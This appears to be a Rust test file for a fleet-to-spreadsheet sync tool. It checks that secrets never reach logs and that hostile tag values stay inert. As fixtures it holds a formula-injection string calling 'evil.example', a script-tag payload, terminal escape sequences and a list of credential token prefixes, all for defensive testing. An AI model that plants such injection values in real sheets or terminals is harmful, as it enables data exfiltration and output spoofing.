//! Other people's text, and our own secrets: neither gets where it does not belong.

use fleetsheet_mocks::cloud::SECRET_KEY;
use fleetsheet_mocks::sheets::CellValue;

use crate::stage::{ACCOUNT, REGION, RELEASE, SERVERS, Stage};

#[tokio::test(flavor = "multi_thread")]
async fn no_secret_is_printed_or_logged_however_much_is_asked() {
    let (mut stage, _) = Stage::known(3).await;
    stage.setting("RUST_LOG", "trace");
    let file: serde_json::Value = serde_json::from_slice(&std::fs::read(stage.path("key.json")).unwrap()).unwrap();
    let pem = file["private_key"].as_str().unwrap();
    let key_lines: Vec<&str> = pem.lines().filter(|line| !line.starts_with("-----")).collect();
    assert!(key_lines.len() > 5);
    let role = "arn:aws:iam::222222222222:role/fleetsheet";
    stage.cloud.edit(|fleet| fleet.add_role(role));
    stage.serve_accounts(&format!(
        "[[aws.account]]\nname = \"main\"\nregions = [\"{REGION}\"]\n\
         [[aws.account]]\nname = \"prod\"\nrole_arn = \"{role}\"\nregions = [\"{REGION}\"]\n"
    ));
    stage.turn_keys("web-prod", "2.4.0");
    for arguments in [&["--once", "-vv"][..], &["plan", "-vv"], &["explain", "web-prod"]] {
        let ran = stage.run(arguments).await;
        assert_eq!(ran.code, 0, "{ran:?}");
        let said = format!("{}\n{}", ran.stdout, ran.stderr);
        assert!(!ran.stderr.is_empty(), "the log was asked for");
        for line in &key_lines {
            assert!(
                !said.contains(line),
                "the private key is in the output of {arguments:?}"
            );
        }
        assert!(!said.contains(SECRET_KEY), "{arguments:?}");
        for beginning in ["Bearer ", "ya29.", "assertion=", "X-Amz-Security-Token: ", "Signature="] {
            let found = said.lines().find(|line| line.contains(beginning));
            assert_eq!(found, None, "{arguments:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_are_formulas_escapes_or_pages_stay_text() {
    let names = [
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "+1+1",
        "@SUM(A1)",
        "<script>alert(1)</script>",
        "\u{202e}drawkcab",
        "1e5",
        "TRUE",
        "'quoted",
    ];
    let (stage, ids) = Stage::web(names.len()).await;
    stage.cloud.edit(|fleet| {
        for (id, name) in ids.iter().zip(names) {
            fleet.set_tag(id, "Name", name);
            fleet.set_tag(id, "ReleaseChannel", "web-prod");
        }
    });
    let new = stage
        .cloud
        .edit(|fleet| fleet.launch(ACCOUNT, REGION, [("Name", "=1+1"), ("ReleaseChannel", "web-prod")]));
    stage.settle().await;
    let column = stage.sheets.edit(|book| book.tab_mut(SERVERS).column("name").unwrap());
    for (id, name) in ids.iter().chain([&new]).zip(names.into_iter().chain(["=1+1"])) {
        stage.sheets.edit(|book| {
            let tab = book.tab_mut(SERVERS);
            let row = tab.find("serverId", id).unwrap();
            assert_eq!(*tab.value(row, column), CellValue::Text(name.to_owned()));
        });
    }
    stage.assert_silent().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_cells_and_tags_reach_no_terminal_unescaped() {
    let (stage, ids) = Stage::known(4).await;
    let evil = "\u{9b}2J\u{1b}[2J\u{202e}x\nproblems\n  none";
    stage.cloud.edit(|fleet| {
        fleet.set_tag(&ids[0], "ReleaseVersion", evil);
        fleet.launch(ACCOUNT, REGION, [("ReleaseChannel", evil), ("ReleaseVersion", "1")]);
    });
    stage.set_server(&ids[1], "channel", evil);
    stage.set("web-prod", "desiredVersionA", evil);
    stage.set("web-prod", "releaseVersion", evil);
    stage
        .sheets
        .edit(|book| book.tab_mut(RELEASE).add_row(&[("channel", evil.into())]));
    for arguments in [
        &["plan"][..],
        &["explain", "web-prod"],
        &["explain", &ids[0]],
        &["explain", evil],
        &["--once"],
        &["history"],
    ] {
        let ran = stage.run_with(arguments, &[("RUST_LOG", "debug")]).await;
        for said in [&ran.stdout, &ran.stderr] {
            assert!(
                !said.contains(['\u{1b}', '\u{9b}']) && !said.contains('\u{202e}'),
                "{arguments:?}: {said:?}"
            );
            assert!(
                !said.lines().any(|line| line == "  none"),
                "{arguments:?} forges a line: {said:?}"
            );
        }
    }
    assert_eq!(
        stage.version(&ids[0]),
        "2.3.9",
        "a hostile value is drift like any other"
    );
}
